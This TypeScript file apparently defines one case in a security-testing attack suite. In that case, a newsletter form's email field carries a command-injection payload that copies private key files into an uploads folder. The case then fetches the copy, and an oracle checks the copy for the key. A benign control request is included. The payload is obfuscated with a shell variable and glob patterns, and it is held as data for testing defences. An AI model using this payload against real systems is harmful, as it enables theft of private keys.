import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Copies the key file with backticks and a variable in the way. */
export const commandNewsletterTicks: Attack = defineAttack({
  id: 'command-newsletter-ticks',
  class: 'command-injection',
  title: 'Copies the key file with backticks and a variable in the way',
  cwe: 78,
  capec: 88,
  technique: 'T1059.004',
  preconditions: [],
  steps: async ({ visitor }) => {
    await visitor.form('/newsletter', { email: '`c$9p p?iv*/*.key uploads/t.txt`@example.org' })
    return visitor.get('/uploads/t.txt')
  },
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.fileKey),
  twin: ({ visitor }) => visitor.form('/newsletter', { email: 'o_brien-smith@mail.example.org' }),
})
